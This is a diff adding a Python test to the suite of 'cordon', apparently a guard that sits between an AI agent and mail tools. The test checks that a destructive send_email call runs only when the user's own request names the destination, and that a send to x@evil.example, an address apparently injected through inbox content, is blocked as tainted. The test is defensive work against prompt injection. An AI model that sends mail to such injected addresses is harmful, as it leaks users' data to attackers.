@@ -246,3 +246,44 @@ async def test_cursor_without_the_hook_nothing_is_trusted(harness: Harness) -> N
         bad = await client.call_tool("send_email", {"to": "x@evil.example", "body": "fwd"})
         assert bad.is_error and "taint.seen_in_output" in text_of(bad), text_of(bad)
     assert _sent(box) == []
+
+
+async def test_a_request_handed_in_by_the_hook_answers_a_requires_request_tool(
+    harness: Harness,
+) -> None:
+    """``requires_request`` through the real ``cordon run``, as the gmail pack's
+    ``create_filter`` uses it: a destructive sending tool runs unasked once the user's own
+    request asks for that kind of action and names every destination of the call."""
+    box, env = _box(harness)
+    policy = harness.policy(
+        {
+            "version": 1,
+            "tools": {
+                "send_email": {
+                    "sink_params": ["to"],
+                    "destructive": True,
+                    "requires_request": [r"\bforward"],
+                }
+            },
+        }
+    )
+    params = harness.cordon(mailbox_server(), policies=[policy], env=env, name="mail")
+    async with Client(params, mode="legacy") as client:
+        await client.list_tools()
+        # no request yet: asked (the destructive ask, then the request the call lacks)
+        r = await client.call_tool("send_email", {"to": "ops@example.com", "body": "fwd"})
+        assert r.is_error and "action.destructive_hint" in text_of(r), text_of(r)
+        assert _hook(harness, "Forward the quarterly numbers to ops@example.com").returncode == 0
+        await client.call_tool("read_inbox", {})
+        ok = await client.call_tool("send_email", {"to": "ops@example.com", "body": "fwd"})
+        assert not ok.is_error, text_of(ok)
+        # the request names no other destination: asked, and the injected one denied
+        new = await client.call_tool("send_email", {"to": "new@partner.example", "body": "fwd"})
+        assert new.is_error and "action.destructive_hint" in text_of(new), text_of(new)
+        bad = await client.call_tool("send_email", {"to": "x@evil.example", "body": "fwd"})
+        assert bad.is_error and "taint.seen_in_output" in text_of(bad), text_of(bad)
+        # a request of another kind in a new conversation: asked again
+        assert _hook(harness, "Mail ops@example.com a status", "conv-2").returncode == 0
+        again = await client.call_tool("send_email", {"to": "ops@example.com", "body": "fwd"})
+        assert again.is_error and "action.destructive_hint" in text_of(again), text_of(again)
+    assert _sent(box) == ["ops@example.com"]
